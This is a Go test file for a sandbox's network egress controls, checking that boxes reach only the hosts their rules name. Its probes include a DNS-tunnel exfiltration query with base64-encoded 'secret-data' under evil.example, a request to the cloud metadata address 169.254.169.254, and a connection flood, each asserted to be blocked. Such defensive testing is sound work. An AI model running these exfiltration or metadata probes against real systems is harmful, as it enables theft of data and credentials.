//go:build linux

package local_test

import (
	"fmt"
	"io"
	"net"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sandjet/sandjet/internal/longtest"
	"github.com/sandjet/sandjet/providers"
	"github.com/sandjet/sandjet/providers/egress/egresstest"
	"github.com/sandjet/sandjet/providers/local"
	"github.com/sandjet/sandjet/schemas"
)

// networked opens a provider whose boxes are in a world.
func networked(t *testing.T, w *egresstest.World, change func(*local.Options)) *local.Provider {
	t.Helper()
	return open(t, "L3", func(opt *local.Options) {
		opt.Networks = []schemas.NetworkMode{schemas.DenyAll, schemas.AllowAll, schemas.Restricted}
		opt.Resolver, opt.Dial, opt.Pool = w, w.Dial, -1
		if change != nil {
			change(opt)
		}
	})
}

// with is command under a network.
func with(n schemas.Network, script string) providers.Command {
	return sandboxes(nil, nil).With(n, script)
}

// sandboxes are the boxes of a provider in a world.
func sandboxes(w *egresstest.World, p providers.Provider) egresstest.Sandboxes {
	return egresstest.Sandboxes{World: w, Provider: p, Command: command}
}

// TestRestrictedNetworkL3 tries every way out of a box that may reach a few hosts.
//
//guarantee:a-box-reaches-what-its-rules-name
func TestRestrictedNetworkL3(t *testing.T) {
	w := egresstest.Furnish(t)
	s := sandboxes(w, networked(t, w, nil))
	s.Install(t)
	s.TestRestricted(t)
}

// TestAllowAllNetworkL3: everything public, and nothing of the host's.
//
//guarantee:a-box-reaches-what-its-rules-name
func TestAllowAllNetworkL3(t *testing.T) {
	w := egresstest.Furnish(t)
	s := sandboxes(w, networked(t, w, func(opt *local.Options) { opt.PrivateNetworks = []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")} }))
	s.Install(t)
	s.TestAllowAll(t)
}

// TestPrivateNetworksL3: what is not public takes two: the sandbox's rules, and the operator's leave.
//
//guarantee:a-box-reaches-what-its-rules-name
func TestPrivateNetworksL3(t *testing.T) {
	w := egresstest.Furnish(t)
	w.Greet("10.20.1.1:5432")
	w.Name("db.example", "10.20.1.1")
	p := networked(t, w, func(opt *local.Options) { opt.PrivateNetworks = []netip.Prefix{netip.MustParsePrefix("10.20.0.0/16")} })
	s := sandboxes(w, p)
	s.Install(t)
	listed := schemas.Network{Mode: schemas.Restricted, AllowDomains: []string{"db.example:5432"}, AllowCIDRs: []string{"10.20.1.0/24"}}
	if said, _ := s.Probe(t, listed, "say", "tcp", "10.20.1.1:5432", "x"); said != "greeting\n" {
		t.Errorf("listed and opened: %q", said)
	}
	if said, _ := s.Probe(t, listed, "say", "tcp", "db.example:5432", "x"); said != "greeting\n" {
		t.Errorf("by its name: %q", said)
	}
	listed.AllowCIDRs = nil
	if said, _ := s.Probe(t, listed, "say", "tcp", "db.example:5432", "x"); !strings.HasPrefix(said, "no:") {
		t.Errorf("a name that leads to a private address that is not listed: %q", said)
	}
	listed.AllowCIDRs = []string{"10.21.0.0/16"}
	res, err := p.Run(t.Context(), with(listed, "true"))
	if schemas.CodeOf(err) != schemas.Unsupported || res.Started || !strings.Contains(err.Error(), "--private-networks") {
		t.Errorf("listed and not opened: %v", err)
	}
}

// TestNetworksOfKeptBoxesL3: a kept box has its network between runs, jobs have it too, and a changed rule holds from the
// next reservation on.
//
//guarantee:a-box-reaches-what-its-rules-name
func TestNetworksOfKeptBoxesL3(t *testing.T) {
	w := egresstest.Furnish(t)
	p := networked(t, w, nil)
	n := egresstest.Restricted()
	cmd := with(n, `exec 3<>/dev/tcp/git.example/22; read -r line <&3; echo "$line"`)
	ref, err := p.Reserve(t.Context(), "kept", cmd.Spec)
	if err != nil {
		t.Fatal(err)
	}
	cmd.Sandbox = ref
	for range 3 {
		if res, err := p.Run(t.Context(), cmd); err != nil || string(res.Stdout) != "greeting\n" || len(res.Stderr) > 0 {
			t.Errorf("%+v, %v", res, err)
		}
	}
	// A refusal is shown to the run that met it, not to the next.
	refused := cmd
	refused.Script = "getent hosts evil.example; exit 0"
	if res, err := p.Run(t.Context(), refused); err != nil || !strings.Contains(string(res.Stderr),
		"sandjet: network: host evil.example is not allowed") {
		t.Errorf("%q, %v", res.Stderr, err)
	}
	if res, err := p.Run(t.Context(), cmd); err != nil || len(res.Stderr) > 0 {
		t.Errorf("%q, %v", res.Stderr, err)
	}
	ended := make(chan providers.JobEnd, 1)
	job := cmd
	job.Script += "; getent hosts evil.example; exit 0"
	if _, err := p.StartJob(t.Context(), schemas.NewJobID(), job,
		providers.JobOptions{Notify: func(e providers.JobEnd) { ended <- e }}); err != nil {
		t.Fatal(err)
	}
	select {
	case e := <-ended:
		if !strings.Contains(string(e.Tail), "greeting\n") || !strings.Contains(string(e.Tail),
			"sandjet: network: host evil.example is not allowed") {
			t.Errorf("the job said %q", e.Tail)
		}
	case <-time.After(patience):
		t.Fatal("the job does not end")
	}
	narrow := cmd
	narrow.Network.AllowDomains = []string{"web.example"}
	narrow.Spec.Network = narrow.Network
	if _, err := p.Run(t.Context(), narrow); schemas.CodeOf(err) != schemas.NotFound {
		t.Errorf("a run under other rules: %v", err)
	}
	if narrow.Sandbox, err = p.Reserve(t.Context(), "kept", narrow.Spec); err != nil || narrow.Sandbox.Epoch == ref.Epoch {
		t.Fatalf("%v, %v", narrow.Sandbox, err)
	}
	if res, err := p.Run(t.Context(), narrow); err != nil || strings.Contains(string(res.Stdout), "greeting") {
		t.Errorf("the old rule is in force: %+v, %v", res, err)
	}
	if err := p.Release(t.Context(), narrow.Sandbox); err != nil {
		t.Error(err)
	}
}

// TestNetworksThatAHostCannotKeep: without namespaces nothing is pretended.
//
//guarantee:a-box-reaches-what-its-rules-name
func TestNetworksThatAHostCannotKeep(t *testing.T) {
	program := plainProgram(t)
	for _, level := range []string{"L2", "L0"} {
		p := open(t, level, func(o *local.Options) {
			o.Networks, o.AllowUnisolated, o.Box = []schemas.NetworkMode{schemas.DenyAll, schemas.Restricted}, true, program
		})
		if slices.Contains(p.Profile().Networks, schemas.Restricted) {
			t.Errorf("%s: the profile says that it keeps restricted", level)
		}
		cmd := with(egresstest.Restricted(), "true")
		res, err := p.Run(t.Context(), cmd)
		if schemas.CodeOf(err) != schemas.Unsupported || res.Started || !strings.Contains(err.Error(), "network namespaces") {
			t.Errorf("%s: %v", level, err)
		}
		if _, err := p.Reserve(t.Context(), "kept", cmd.Spec); schemas.CodeOf(err) != schemas.Unsupported {
			t.Errorf("%s: reserve: %v", level, err)
		}
	}
}

// TestFloodOfConnectionsL3: what one box opens is bounded, and another is served meanwhile.
//
//guarantee:a-box-reaches-what-its-rules-name
func TestFloodOfConnectionsL3(t *testing.T) {
	longtest.Only(t, "it holds thousands of connections")
	w := egresstest.Furnish(t)
	p := networked(t, w, nil)
	s := sandboxes(w, p)
	s.Install(t)
	before := openFiles(t)
	flooded := make(chan string, 1)
	var flood sync.WaitGroup
	flood.Go(func() {
		res, err := p.Run(t.Context(), with(egresstest.Restricted(),
			"ulimit -n 1024; "+egresstest.ProbeVariable+"=1 ./netprobe flood 93.184.217.7:9000"))
		flooded <- fmt.Sprint(string(res.Stdout), err)
	})
	most, rounds := 0, 0
	for done := false; !done || rounds == 0; rounds++ {
		if said, _ := s.Probe(t, egresstest.Restricted(), "say", "tcp", "git.example:22", "x"); said != "greeting\n" {
			t.Errorf("another box: %q", said)
		}
		most = max(most, openFiles(t))
		select {
		case said := <-flooded:
			t.Logf("%s, with at most %d descriptors more, while another box was served %d times", said, most-before, rounds+1)
			done = true
		default:
		}
	}
	flood.Wait()
	if most-before > 1200 { // 256 connections, both their ends here, and the servers' as well
		t.Errorf("%d descriptors were in use", most-before)
	}
	until(t, "the end of all connections", func() bool { return openFiles(t) <= before+8 })
}

// TestConnectionsEndWithTheWorker: a worker is killed while a box is connected. Its processes, its network and its connections are gone.
//
//guarantee:a-box-reaches-what-its-rules-name
func TestConnectionsEndWithTheWorker(t *testing.T) {
	l, err := net.Listen("tcp", "127.0.0.77:0") // where no other test's client calls again: the first connection is the box's
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	ended := make(chan error, 1)
	var server sync.WaitGroup
	server.Go(func() {
		c, err := l.Accept()
		if err != nil {
			ended <- err
			return
		}
		defer c.Close()
		_, _ = io.WriteString(c, "greeting\n")
		_, err = io.Copy(io.Discard, c)
		ended <- err
	})
	nothingOutlives(t, "L3", outsideAt+"="+l.Addr().String())
	select {
	case <-ended:
	case <-time.After(patience):
		t.Error("the connection to the outside is still open")
	}
	server.Wait()
}

// TestPortsWithoutRedirectL3: where the kernel cannot redirect, the ports that rules name are served, and others refused.
//
//guarantee:a-box-reaches-what-its-rules-name
func TestPortsWithoutRedirectL3(t *testing.T) {
	w := egresstest.Furnish(t)
	p := networked(t, w, nil)
	p.ListenOnPorts()
	s := sandboxes(w, p)
	s.Install(t)
	for args, want := range map[string]string{
		"get http://web.example/":                        "200 hello",
		"get https://web.example/":                       "HTTP/2.0 200 hello",
		"say tcp git.example:22 x":                       "greeting",
		"ask web.example 8.8.8.8:53":                     "[198.18.",
		"get https://evil.example/":                      "no:",
		"get http://169.254.169.254/latest/meta-data":    "no:",
		"say tcp 93.184.217.7:9000 x":                    "connection refused", // listed, but no process listens on this port
		"say tcp 93.184.216.99:443 x":                    "no:",
		"say udp 93.184.216.34:443 x":                    "no:",
		"ask c2VjcmV0LWRhdGE.evil.example 198.18.0.1:53": "no:",
	} {
		if said, _ := s.Probe(t, egresstest.Restricted(), strings.Split(args, " ")...); !strings.Contains(said, want) {
			t.Errorf("%s: %q, want %q", args, said, want)
		}
	}
	many := egresstest.Restricted()
	for port := range 60 {
		many.AllowDomains = append(many.AllowDomains, fmt.Sprintf("web.example:%d", 2000+port))
	}
	if res, err := p.Run(t.Context(), with(many, "true")); err == nil || res.Started || !strings.Contains(err.Error(), "ports are too many") {
		t.Errorf("63 ports: %v", err)
	}
}
